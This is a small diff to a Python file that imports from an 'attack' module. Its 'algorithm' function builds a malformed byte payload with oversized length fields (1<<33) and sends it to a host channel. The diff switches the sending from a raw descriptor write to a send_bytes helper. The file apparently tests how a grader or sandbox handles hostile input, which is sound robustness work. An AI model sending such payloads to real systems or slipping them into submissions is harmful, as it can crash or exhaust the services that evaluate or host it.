@@ -8,7 +8,7 @@ import struct
 
 import numpy as np
 
-from attack import attempted, descriptor, raw_write
+from attack import attempted, send_bytes
 
 
 class Giant:
@@ -26,5 +26,5 @@ def algorithm(question):
         pass
     body = b"a\x0b\x02" + struct.pack("<QQ", 1 << 33, 1 << 33) + b"x" * 64
     body = b"t\x02\x00\x00\x00s\x02\x00\x00\x00ok" + body
-    raw_write(descriptor, len(body).to_bytes(4, "little") + body)
+    send_bytes(body)
     return 0
